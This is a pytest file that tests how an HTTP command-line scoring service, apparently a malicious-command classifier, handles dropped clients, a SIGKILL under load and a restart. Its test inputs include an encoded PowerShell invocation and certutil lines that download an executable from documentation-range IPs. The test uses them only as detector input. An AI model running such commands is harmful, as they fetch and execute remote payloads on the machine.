"""The HTTP service under faults: clients that vanish mid-request, a SIGKILL under load, and a restart."""

from __future__ import annotations

import signal
import socket
import threading

import httpx
import pytest

from conftest import ROOT, cli, free_port, start_serve

EXAMPLES = ROOT / "smallworld" / "examples"


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory):
    out = tmp_path_factory.mktemp("model") / "m"
    cli("train", "--task", "cmdlines", "--labelled", EXAMPLES / "cmdlines_seed.jsonl", "--teacher", "none", "--out", out)
    return out


def _score(url: str, text: str) -> float:
    r = httpx.post(url + "/v1/score", json={"text": text}, timeout=10)
    assert r.status_code == 200, r.text
    return r.json()["score"]


def test_clients_that_vanish_mid_request_do_not_hurt_the_service(model_dir, tmp_path):
    port = free_port()
    proc = start_serve(model_dir, port, tmp_path / "log", "--timeout", "2")
    url = f"http://127.0.0.1:{port}"
    try:
        before = _score(url, "powershell -enc SQBFAFgA")
        for i in range(30):
            s = socket.create_connection(("127.0.0.1", port))
            head = (b"POST /v1/score/batch HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    b"Content-Length: 100000\r\n\r\n")
            s.sendall(head + b'{"items": [{"text": "abc' * (1 + i % 3))
            if i % 2:
                s.shutdown(socket.SHUT_RDWR)
            s.close()
        # half-open headers only
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(b"POST /v1/score HTTP/1.1\r\nHost: x\r\n")
        s.close()
        assert proc.poll() is None
        assert _score(url, "powershell -enc SQBFAFgA") == before
        assert httpx.get(url + "/healthz").status_code == 200
    finally:
        proc.terminate()
        proc.wait(10)


def test_sigkill_under_load_then_restart_serves_the_same_scores(model_dir, tmp_path):
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    proc = start_serve(model_dir, port, tmp_path / "log")
    texts = [f"certutil -urlcache -f http://203.0.113.{i}/a.exe a.exe" for i in range(40)]
    want = httpx.post(url + "/v1/score/batch", json={"items": [{"text": t} for t in texts]}).json()["results"]
    errors: list[str] = []

    def load():
        with httpx.Client(base_url=url, timeout=5) as c:
            for t in texts * 5:
                try:
                    c.post("/v1/score", json={"text": t})
                except httpx.HTTPError as e:
                    errors.append(type(e).__name__)
                    return

    threads = [threading.Thread(target=load) for _ in range(4)]
    for th in threads:
        th.start()
    proc.send_signal(signal.SIGKILL)
    proc.wait(10)
    for th in threads:
        th.join(30)
    assert errors, "clients must see the dead server as a connection error, not hang"
    proc = start_serve(model_dir, port, tmp_path / "log")
    try:
        got = httpx.post(url + "/v1/score/batch", json={"items": [{"text": t} for t in texts]}).json()["results"]
        assert [g["score"] for g in got] == [w["score"] for w in want]
    finally:
        proc.terminate()
        proc.wait(10)
